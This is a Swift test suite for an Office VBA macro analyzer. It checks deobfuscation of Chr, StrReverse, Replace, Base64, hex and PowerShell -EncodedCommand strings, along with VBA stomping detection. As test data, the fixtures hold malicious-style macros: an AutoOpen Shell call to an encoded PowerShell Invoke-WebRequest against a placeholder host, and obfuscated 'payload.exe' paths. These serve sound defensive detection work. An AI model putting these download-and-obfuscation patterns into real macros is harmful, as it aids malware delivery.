import Testing

@testable import OfficeMacros

/// Deobfuscation: Chr concatenations, StrReverse, Replace, Base64, hex and PowerShell -EncodedCommand, and the
/// keyword and IOC scan of what they decode to.
@Suite struct AnalysisDecodingTests {
    static func analyze(_ code: String) -> MacroAnalysis {
        MacroAnalyzer.analyze(source: code, location: "Module1")
    }

    @Test func chrConcatenation() throws {
        let a = Self.analyze("Sub T()\n  x = Chr(83) & Chr(104) & ChrW(101) & ChrB(108) & Chr$(108)\nEnd Sub\n")
        let d = try #require(a.decoded.first)
        #expect(d.encoding == "Chr")
        #expect(d.decoded == "Shell")
        #expect(d.encoded == "Chr(83) & Chr(104) & ChrW(101) & ChrB(108) & Chr$(108)")
        #expect(d.line == 2)
        // The decoded word is scanned again.
        #expect(
            a.indicators.contains {
                $0.kind == .suspicious && $0.keyword == "Shell"
                    && $0.description == "May run an executable file or a system command (obfuscation: VBA expression)"
            }
        )
        #expect(a.indicators.contains { $0.kind == .vbaString && $0.keyword == "Shell" })
        #expect(a.indicators.contains { $0.keyword == "VBA obfuscated Strings" })
    }

    @Test func chrArithmeticHexAndLiterals() throws {
        let a = Self.analyze("x = Chr(&H68) + \"tt\" & Chr(50 + 62) & Chr(&O72) & \"//x.example.invalid/a.exe\"\n")
        #expect(a.decoded.first?.decoded == "http://x.example.invalid/a.exe")
        #expect(
            a.indicators.contains {
                $0.kind == .ioc && $0.keyword == "http://x.example.invalid/a.exe"
                    && $0.description == "URL (obfuscation: VBA expression)"
            }
        )
    }

    @Test func strReverseAndReplace() throws {
        let a = Self.analyze(
            "a = StrReverse(\"exe.daolyap\\cilbuP\\sresU\\:C\")\nb = Replace(\"poXXwersXXhell\", \"XX\", \"\")\n"
                + "c = StrReverse(Chr(108) & \"lehS\")\n"
        )
        // ("lehS" is also a Base64 string for olevba; only the expressions are looked at here.)
        let expressions = a.decoded.filter { $0.encoding != "Base64" }
        #expect(expressions.map(\.decoded) == ["C:\\Users\\Public\\payload.exe", "powershell", "Shell"])
        #expect(expressions.map(\.encoding) == ["StrReverse", "Replace", "StrReverse"])
        #expect(expressions.map(\.line) == [1, 2, 3])
        #expect(a.indicators.contains { $0.kind == .ioc && $0.keyword == "payload.exe" })
        #expect(a.indicators.contains { $0.keyword == "powershell" })
    }

    @Test func invalidChrIsLeftAlone() {
        #expect(Self.analyze("x = Chr(300) & Chr(-1)\n").decoded.isEmpty)
        #expect(Self.analyze("x = Chr(99999999999999999999)\n").decoded.allSatisfy { $0.encoding == "Hex" })
        #expect(Self.analyze("' x = Chr(72) & Chr(105)\n").decoded.isEmpty)
        #expect(Self.analyze("x = \"Chr(72) & Chr(105)\"\n").decoded.isEmpty)
    }

    @Test func base64AndHexStrings() throws {
        let a = Self.analyze("s = \"VGhpcyBpcyBhIHRlc3Q=\"\nt = \"48656C6C6F\"\n")
        #expect(
            a.decoded.contains(
                DecodedString(encoding: "Base64", encoded: "VGhpcyBpcyBhIHRlc3Q=", decoded: "This is a test", line: 1)
            )
        )
        #expect(a.decoded.contains(DecodedString(encoding: "Hex", encoded: "48656C6C6F", decoded: "Hello", line: 2)))
        #expect(a.indicators.contains { $0.kind == .base64String && $0.keyword == "This is a test" })
        #expect(a.indicators.contains { $0.kind == .hexString && $0.keyword == "Hello" })
    }

    /// The fixture's payload: `powershell -e` + Base64 of UTF-16LE.
    static let encodedCommand =
        "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcABzADoALwAvAGQAbAAuAGUAeABhAG0AcABsAGUALgBpAG4AdgBhAGwAaQBkAC8AYQAuAHQAeAB0AA=="

    @Test(arguments: ["-e", "-enc", "-EncodedCommand", "-ec", "/e", "-En"])
    func powerShellEncodedCommand(option: String) throws {
        let a = Self.analyze("Sub AutoOpen()\n  Shell \"powershell -nop \(option) \(Self.encodedCommand)\"\nEnd Sub\n")
        let d = try #require(a.decoded.first { $0.encoding == "PowerShell -EncodedCommand" })
        #expect(d.decoded == "Invoke-WebRequest https://dl.example.invalid/a.txt")
        #expect(d.line == 2)
        #expect(a.indicators.contains { $0.kind == .decoded && $0.keyword == d.decoded })
        #expect(
            a.indicators.contains {
                $0.kind == .ioc && $0.keyword == "https://dl.example.invalid/a.txt"
                    && $0.description == "URL (obfuscation: PowerShell -EncodedCommand)"
            }
        )
    }

    @Test func powerShellInsideChrObfuscation() throws {
        // "-e " + the Base64, built with Chr for the switch.
        let a = Self.analyze("x = \"powershell \" & Chr(45) & Chr(101) & \" \(Self.encodedCommand)\"\n")
        #expect(
            a.decoded.contains {
                $0.encoding == "PowerShell -EncodedCommand"
                    && $0.decoded == "Invoke-WebRequest https://dl.example.invalid/a.txt"
            }
        )
    }

    @Test func notPowerShell() {
        #expect(
            Self.analyze("x = \"a-e SGVsbG8gV29ybGQ=\"\n").decoded.allSatisfy {
                $0.encoding != "PowerShell -EncodedCommand"
            }
        )
        #expect(Self.analyze("x = \"-e short\"\n").decoded.isEmpty)
        #expect(
            Self.analyze("x = \"-exit SGVsbG8gV29ybGQ=\"\n").decoded.allSatisfy {
                $0.encoding != "PowerShell -EncodedCommand"
            }
        )
    }

    @Test func indicatorsCarryLinesAndLocation() throws {
        let a = Self.analyze(
            "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  x = 1 + _\r\n  2: Shell \"calc\"\r\nEnd Sub\r\n"
        )
        let auto = try #require(a.indicators.first { $0.keyword == "AutoOpen" })
        #expect(auto.line == 2)
        #expect(auto.location == "Module1")
        let shell = try #require(a.indicators.first { $0.keyword == "Shell" })
        #expect(shell.line == 4)  // after a continuation line
    }

    @Test func fixtureVerdictsMatchMraptor() throws {
        // (a)/(b) AutoOpen + Shell: A-X, malicious; (c) Format_Table: nothing; (d) CP932: nothing.
        for (sample, flags) in [
            ("autoopen-powershell.doc", "A-X"), ("autoopen-powershell.docm", "A-X"), ("format-table.docm", "---"),
            ("cp932.docm", "---"),
        ] {
            let golden = try VBAFixture.golden(sample)
            let project = try VBAExtractor.project(
                storagePath: golden.projects[0].storage,
                stream: try VBAFixture.streamLookup(sample)
            )
            let analysis = MacroAnalyzer.analyze(project: project)
            #expect(analysis.flags.flagString == flags, "\(sample)")
            #expect(analysis.flags.isMalicious == golden.mraptor.suspicious, "\(sample)")
            if sample.hasPrefix("autoopen") {
                #expect(
                    analysis.decoded.contains { $0.decoded == "Invoke-WebRequest https://dl.example.invalid/a.txt" }
                )
                let auto = try #require(analysis.indicators.first)
                #expect(auto.keyword == "AutoOpen" && auto.location == "Module1" && auto.line == 2)
            }
        }
    }

    @Test func stompingIndicator() throws {
        // A module whose p-code region holds a string literal that the source lacks.
        let golden = try VBAFixture.golden("autostart-encrypt-standardpassword.xls")
        let inner = try VBAFixture.streamLookup("autostart-encrypt-standardpassword.xls")
        let offset = try #require(golden.projects[0].modules.first { $0.name == "Modul1" }?.offset)
        let project = try VBAExtractor.project(storagePath: "_VBA_PROJECT_CUR") { path in
            guard path.lowercased() == "_vba_project_cur/vba/modul1", case .found(let bytes, _) = inner(path) else {
                return inner(path)
            }
            // Replace the source with a harmless one, keeping the p-code ("Hello World" literal).
            let source = Array("Attribute VB_Name = \"Modul1\"\r\nSub Auto_Open()\r\nEnd Sub\r\n".utf8)
            return .found(Array(bytes[..<offset]) + VBACompressor.compress(source), truncated: false)
        }
        let finding = try #require(project.indicators.first)
        #expect(finding.kind == .suspicious && finding.keyword == "VBA Stomping" && finding.location == "Modul1")
        #expect(finding.description.contains("Hello World"))
        let analysis = MacroAnalyzer.analyze(project: project)
        #expect(analysis.indicators.contains { $0.keyword == "VBA Stomping" })
    }

    @Test func stompingByPcodeSize() throws {
        // 5,000 bytes of p-code and a source without any procedure.
        let source = Array("Attribute VB_Name = \"Module1\"\r\n".utf8)
        let module = [UInt8](repeating: 0, count: 5000) + VBACompressor.compress(source)
        // The hand-built dir stream says MODULEOFFSET 0x0333 for both modules: make it 5000.
        var dir = VBADirStreamTests.informationAndModules()
        let offset = VBADirStreamTests.u32(5000)
        let old = VBADirStreamTests.u32(0x0333)
        var i = 0
        while i + 4 <= dir.count {
            if Array(dir[i..<(i + 4)]) == old { dir.replaceSubrange(i..<(i + 4), with: offset) }
            i += 1
        }
        let streams: [String: [UInt8]] = [
            "vba/dir": VBACompressor.compress(dir), "vba/module1": module,
            "vba/thisdocument": [UInt8](repeating: 0, count: 5000)
                + VBACompressor.compress(Array("Sub X()\r\nEnd Sub\r\n".utf8)),
            "vba/_vba_project": [0xCC, 0x61, 0xB2, 0x00, 0x00, 0x03, 0x00, 0xFF, 0xFF],
        ]
        let project = try VBAExtractor.project(storagePath: "") { path in
            streams[path.lowercased()].map { .found($0, truncated: false) } ?? .missing
        }
        #expect(project.modules.count == 2)
        #expect(project.indicators.map(\.location) == ["Module1"])
        #expect(project.indicators.first?.description.contains("no procedure") == true)
    }

    @Test func boundedWork() {
        // A long line of Chr calls and a huge hex run: linear, bounded output.
        let chr = (0..<20_000).map { _ in "Chr(65)" }.joined(separator: " & ")
        let a = Self.analyze("x = " + chr + "\n" + String(repeating: "41", count: 100_000) + "\n")
        #expect(a.decoded.count <= 4096)
        let options = MacroAnalyzer.Options(maxDecodedStrings: .init("analysis.maxDecodedStrings", 3))
        let many = (0..<50).map { "x\($0) = Chr(\($0 + 65)) & Chr(66)" }.joined(separator: "\n")
        #expect(MacroAnalyzer.analyze(source: many, location: "m", options: options).decoded.count <= 3)
    }
}
